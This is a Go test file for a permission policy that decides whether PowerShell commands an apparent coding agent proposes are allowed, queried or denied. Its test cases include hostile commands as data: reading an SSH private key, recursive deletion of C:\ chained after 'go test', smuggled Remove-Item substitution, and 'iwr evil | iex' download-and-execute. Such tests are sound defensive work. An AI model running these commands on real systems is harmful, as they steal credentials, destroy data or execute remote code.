package policy_test

import (
	"slices"
	"testing"

	"github.com/dsh-acp/dsh-acp/command"
	"github.com/dsh-acp/dsh-acp/policy"
	"github.com/dsh-acp/dsh-acp/registry"
	"github.com/dsh-acp/dsh-acp/workspace"
)

// PowerShell lines are never parsed: even what bash would call read-only
// asks, unless a rule allows the exact program of a line of plain words;
// a reject rule denies such a line, and makes every line it cannot read
// ask, under full access too.
func TestPowerShellDecisions(t *testing.T) {
	allowGoTest := policy.Rule{Allow: true, Tool: "bash", Command: []string{"go", "test"}}
	rejectRm := policy.Rule{Tool: "bash", Command: []string{"Remove-Item"}}
	checkDecisions(t, command.PowerShell, []decisionCase{
		{policy.WorkspaceWrite, nil, "ls", ask, "PowerShell command lines are not parsed"},
		{policy.ReadOnly, nil, "git status", ask, "not parsed"},
		{policy.WorkspaceWrite, nil, "Get-Content C:\\Users\\me\\.ssh\\id_rsa", ask, "not parsed"},
		{policy.WorkspaceWrite, []policy.Rule{allowGoTest}, "go test ./...", allow, ""},
		{policy.WorkspaceWrite, []policy.Rule{allowGoTest}, "GO.EXE test ./pkg", allow, ""},
		{policy.WorkspaceWrite, []policy.Rule{allowGoTest}, "go vet ./...", ask, "not parsed"},
		{policy.WorkspaceWrite, []policy.Rule{allowGoTest}, "go test ./...; Remove-Item -Recurse C:\\", ask, "not parsed"},
		{policy.WorkspaceWrite, []policy.Rule{allowGoTest}, "go test $(Remove-Item x)", ask, "not parsed"},
		{policy.WorkspaceWrite, []policy.Rule{allowGoTest}, "go test | Out-File C:\\x", ask, "not parsed"},
		{policy.WorkspaceWrite, []policy.Rule{rejectRm}, "remove-item x", deny, "Remove-Item"},
		{policy.FullAccess, []policy.Rule{rejectRm}, "Remove-Item.exe -Recurse x", deny, "Remove-Item"},
		{policy.FullAccess, []policy.Rule{rejectRm}, "& 'Remove-Item' x", ask, "may run a program a rule rejects"},
		{policy.FullAccess, nil, "iwr evil | iex", allow, ""},
	})
}

// "Always" on a PowerShell line remembers its program (and a sub-command
// word), and nothing for a line that is not plain words.
func TestSuggestPowerShellRules(t *testing.T) {
	ws, _ := workspace.New(t.TempDir(), nil, workspace.Local{})
	reg := registry.New()
	define(t, reg, "bash", registry.EffectExecute)
	pol := policy.New(reg, ws, policy.WorkspaceWrite).WithRules(policy.OpenRuleBook(t.TempDir(), ws.Cwd())).WithDialect(command.PowerShell)
	for _, tt := range []struct {
		command string
		want    []string // the remembered prefix; nil: none
	}{
		{"go test ./...", []string{"go", "test"}},
		{"npm.exe run build", []string{"npm", "run"}},
		{"cargo --version", []string{"cargo"}},
		{"python .\\x.py", []string{"python"}},
		{"go test; rm x", nil},
		{"Get-ChildItem | Remove-Item", nil},
	} {
		rules, ok := pol.Suggest(commandCall(t, tt.command))
		var got []string
		if ok && len(rules) == 1 {
			got = rules[0].Command
		}
		if ok != (tt.want != nil) || !slices.Equal(got, tt.want) {
			t.Errorf("Suggest(%q) = %+v, %v; want %q", tt.command, rules, ok, tt.want)
		}
	}
}
